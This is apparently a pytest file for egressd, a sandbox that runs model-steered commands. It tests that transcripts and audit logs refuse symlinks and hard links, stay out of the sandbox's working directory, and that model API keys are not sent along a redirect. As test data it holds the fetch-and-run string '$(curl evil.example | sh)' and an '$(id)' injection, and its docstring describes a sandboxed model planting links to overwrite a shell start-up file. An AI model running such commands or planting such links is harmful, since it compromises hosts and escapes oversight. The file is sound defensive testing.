"""Files egressd writes never follow a link, never live where the sandbox writes, and keys never follow a redirect.

DESIGN.md, "Secrets (control token, ...)": the transcript and the audit log
are opened without following links and never inside a working directory.

The attacker is the sandboxed command (or the model steering it): it owns the
working directory, so it can plant ``t.jsonl -> /root/.bashrc`` there before
the next run writes its transcript. Every "victim" a planted link points to is
a file this test made under its tmp_path; each test checks that it was not
changed. The model clients' attacker is a model endpoint (or whoever answers
for it) that redirects to another host to collect the API key.
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from egressd.agent.anthropic_messages import AnthropicMessagesModel
from egressd.agent.endpoint import Endpoint, RetryPolicy
from egressd.agent.model import Conversation, ModelError
from egressd.agent.openai_chat import OpenAIChatModel
from egressd.agent.transcript import TranscriptWriter
from egressd.audit.log import AuditError, JsonlAuditSink
from tests.harness import require

EGRESSD = str(Path(sys.executable).with_name("egressd"))
ORIGINAL = "the owner's shell start-up file\n"


def _victim(tmp_path: Path) -> Path:
    victim = tmp_path / "victim" / ".bashrc"
    victim.parent.mkdir()
    victim.write_text(ORIGINAL)
    return victim


def _env(tmp_path: Path, **extra: str) -> dict[str, str]:
    base = {k: v for k, v in os.environ.items() if not k.startswith("EGRESSD_") and "proxy" not in k.lower()}
    return base | {"XDG_STATE_HOME": str(tmp_path / "state")} | extra


def _egressd(tmp_path: Path, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [EGRESSD, *args], capture_output=True, text=True, env=_env(tmp_path, **env), timeout=120,
        stdin=subprocess.DEVNULL,
    )


def _script(tmp_path: Path) -> str:
    path = tmp_path / "script.json"
    path.write_text(json.dumps([{"command": "echo '$(id)'"}, {"final": "done"}]))
    return f"script:{path}"


# -- the transcript ------------------------------------------------------------------------


def test_a_transcript_planted_as_a_link_is_refused_and_its_target_unchanged(tmp_path: Path) -> None:
    victim = _victim(tmp_path)
    link = tmp_path / "t.jsonl"
    link.symlink_to(victim)
    with pytest.raises(Exception, match="link") as refused:
        writer = TranscriptWriter(link)
        writer.step({"step": 1, "command": "$(curl evil.example | sh)"})
        writer.close()
    assert not isinstance(refused.value, AssertionError)
    assert victim.read_text() == ORIGINAL
    assert link.is_symlink()  # left alone, not replaced either


def test_a_transcript_hard_linked_to_another_file_replaces_the_name_not_the_file(tmp_path: Path) -> None:
    victim = _victim(tmp_path)
    path = tmp_path / "t.jsonl"
    os.link(victim, path)  # an earlier owner of this directory made a second name for the victim
    writer = TranscriptWriter(path)
    writer.step({"step": 1, "command": "$(curl evil.example | sh)"})
    writer.close()
    assert victim.read_text() == ORIGINAL
    assert json.loads(path.read_text()) == {"step": 1, "command": "$(curl evil.example | sh)"}
    assert path.stat().st_mode & 0o777 == 0o600


def test_egressd_agent_refuses_a_transcript_link_before_the_run_and_leaves_its_target(tmp_path: Path) -> None:
    victim = _victim(tmp_path)
    link = tmp_path / "t.jsonl"
    link.symlink_to(victim)
    result = _egressd(tmp_path, "agent", "--task", "t", "--model", _script(tmp_path), "--transcript", str(link),
                      "--audit-log", str(tmp_path / "a.jsonl"))
    assert result.returncode == 2, result.stderr
    assert "bad setting transcript" in result.stderr and "link" in result.stderr, result.stderr
    assert "sandbox ready" not in result.stderr
    assert victim.read_text() == ORIGINAL


@pytest.mark.parametrize("through_a_link", [False, True], ids=["by-its-path", "through-a-link-to-it"])
def test_egressd_agent_refuses_a_transcript_inside_the_working_directory_before_the_run(
    tmp_path: Path, through_a_link: bool
) -> None:
    work = tmp_path / "work"
    work.mkdir()
    where = work
    if through_a_link:
        where = tmp_path / "elsewhere"
        where.symlink_to(work)
    result = _egressd(tmp_path, "agent", "--task", "t", "--model", _script(tmp_path), "--workdir", str(work),
                      "--transcript", str(where / "t.jsonl"), "--audit-log", str(tmp_path / "a.jsonl"))
    assert result.returncode == 125, result.stderr  # nothing started: the sandbox cannot be made so
    assert "bad setting transcript" in result.stderr and "inside the working directory" in result.stderr
    assert "sandbox ready" not in result.stderr
    assert not (work / "t.jsonl").exists()


# -- the audit log -------------------------------------------------------------------------


def test_an_audit_log_planted_as_a_link_is_refused_and_its_target_unchanged(tmp_path: Path) -> None:
    victim = _victim(tmp_path)
    link = tmp_path / "audit.jsonl"
    link.symlink_to(victim)
    with pytest.raises(AuditError, match="link"):
        JsonlAuditSink(link).write({"event": "egress", "host": "$(curl evil.example | sh)"})
    assert victim.read_text() == ORIGINAL


def test_an_audit_log_with_a_second_name_is_refused_and_left_alone(tmp_path: Path) -> None:
    victim = _victim(tmp_path)
    path = tmp_path / "audit.jsonl"
    os.link(victim, path)
    with pytest.raises(AuditError, match="more than one name"):
        JsonlAuditSink(path).write({"event": "egress"})
    assert victim.read_text() == ORIGINAL


def test_an_existing_audit_log_is_appended_to_and_a_new_one_is_private(tmp_path: Path) -> None:
    existing = tmp_path / "old.jsonl"
    existing.write_text('{"event":"old"}\n')
    with JsonlAuditSink(existing) as sink:
        sink.write({"event": "new"})
    # The record appended chains onto the line before it (DESIGN.md, "Audit log").
    prev = hashlib.sha256(b'{"event":"old"}\n').hexdigest()
    assert existing.read_text() == f'{{"event":"old"}}\n{{"event":"new","prev":"{prev}"}}\n'
    fresh = tmp_path / "new.jsonl"
    with JsonlAuditSink(fresh) as sink:
        sink.write({"event": "first"})
    assert fresh.stat().st_mode & 0o777 == 0o600


def test_egressd_run_refuses_an_audit_log_link_before_the_run_and_leaves_its_target(tmp_path: Path) -> None:
    victim = _victim(tmp_path)
    link = tmp_path / "audit.jsonl"
    link.symlink_to(victim)
    result = _egressd(tmp_path, "run", "--audit-log", str(link), "--", "true")
    assert result.returncode == 2, result.stderr
    assert "bad setting audit_log" in result.stderr and "link" in result.stderr, result.stderr
    assert victim.read_text() == ORIGINAL


def test_egressd_run_refuses_an_audit_log_inside_the_working_directory_before_the_run(tmp_path: Path) -> None:
    work = tmp_path / "work"
    work.mkdir()
    result = _egressd(tmp_path, "run", "--workdir", str(work), "--audit-log", str(work / "a.jsonl"), "--", "true")
    assert result.returncode == 125, result.stderr  # nothing started: the sandbox cannot be made so
    assert "bad setting audit_log" in result.stderr and "inside the working directory" in result.stderr
    assert not (work / "a.jsonl").exists()


def test_egressd_run_refuses_a_working_directory_holding_its_state_directory(tmp_path: Path) -> None:
    # `--workdir ~` would hand the sandbox ~/.local/state/egressd: the default audit log and control token.
    work = tmp_path / "home"
    work.mkdir()
    result = _egressd(tmp_path, "run", "--workdir", str(work), "--", "true", XDG_STATE_HOME=str(work / "state"))
    assert result.returncode == 125, result.stderr  # nothing started: the sandbox cannot be made so
    assert "bad setting audit_log" in result.stderr and "inside the working directory" in result.stderr


def test_egressd_run_refuses_a_working_directory_holding_the_temporary_directory(tmp_path: Path) -> None:
    # The run's control socket and its token file are made under TMPDIR: never where the command writes.
    require(os.geteuid() == 0, "egressd run needs root (network namespaces, nftables, cgroups)")
    work = tmp_path / "work"
    (work / "tmp").mkdir(parents=True)
    result = _egressd(tmp_path, "run", "--workdir", str(work), "--audit-log", str(tmp_path / "a.jsonl"), "--",
                      "true", TMPDIR=str(work / "tmp"))
    assert result.returncode == 125, result.stderr  # nothing started: the sandbox cannot be made so
    assert "inside the working directory" in result.stderr and "control" in result.stderr, result.stderr
    assert list((work / "tmp").iterdir()) == []


# -- the model clients follow no redirect ---------------------------------------------------


class _Origin:
    """An HTTP server on one loopback address that records every request's headers."""

    def __init__(self, host: str, handler: Any) -> None:
        self.host = host
        self.port = 0
        self.requests: list[dict[str, str]] = []
        self._handler = handler
        self._runner: web.AppRunner | None = None

    async def start(self) -> None:
        async def any_path(request: web.Request) -> web.StreamResponse:
            self.requests.append(dict(request.headers))
            await request.read()
            result: web.StreamResponse = self._handler(request)
            return result

        app = web.Application()
        app.router.add_route("*", "/{tail:.*}", any_path)
        self._runner = web.AppRunner(app, access_log=None)
        await self._runner.setup()
        site = web.TCPSite(self._runner, self.host, 0)
        await site.start()
        self.port = self._runner.addresses[0][1]

    async def close(self) -> None:
        if self._runner is not None:
            await self._runner.cleanup()


@pytest.fixture
async def redirecting() -> AsyncIterator[tuple[_Origin, _Origin]]:
    """(127.0.0.2, which redirects every request to the same path on 127.0.0.3, and 127.0.0.3)."""
    elsewhere = _Origin("127.0.0.3", lambda request: web.json_response({"collected": True}))

    def redirect(request: web.Request) -> web.StreamResponse:
        raise web.HTTPTemporaryRedirect(f"http://127.0.0.3:{elsewhere.port}{request.path}")

    origin = _Origin("127.0.0.2", redirect)
    await elsewhere.start()
    await origin.start()
    yield origin, elsewhere
    await origin.close()
    await elsewhere.close()


def _conversation() -> Conversation:
    return Conversation(system="s", task="t")


@pytest.mark.parametrize("api", ["anthropic", "openai"])
async def test_the_model_clients_send_their_key_to_no_other_host_after_a_redirect(
    redirecting: tuple[_Origin, _Origin], api: str
) -> None:
    origin, elsewhere = redirecting
    key = "sk-secret-model-key"
    endpoint = Endpoint(provider=api, model="m", key_hint="k", policy=RetryPolicy(attempts=1), secrets=[key])
    base = f"http://127.0.0.2:{origin.port}"
    model: AnthropicMessagesModel | OpenAIChatModel
    if api == "anthropic":
        model = AnthropicMessagesModel(endpoint=endpoint, base_url=base, model="m", api_key=key)
    else:
        model = OpenAIChatModel(endpoint=endpoint, base_url=base + "/v1", model="m", api_key=key)
    try:
        with pytest.raises(ModelError, match="redirect") as refused:
            await model.next_turn(_conversation())
    finally:
        await model.close()
    assert len(origin.requests) == 1  # the configured endpoint was asked, with its key
    assert key in json.dumps(origin.requests[0])
    assert elsewhere.requests == []  # the redirect was not followed: the other host saw nothing
    assert f"127.0.0.3:{elsewhere.port}" in str(refused.value) and key not in str(refused.value)
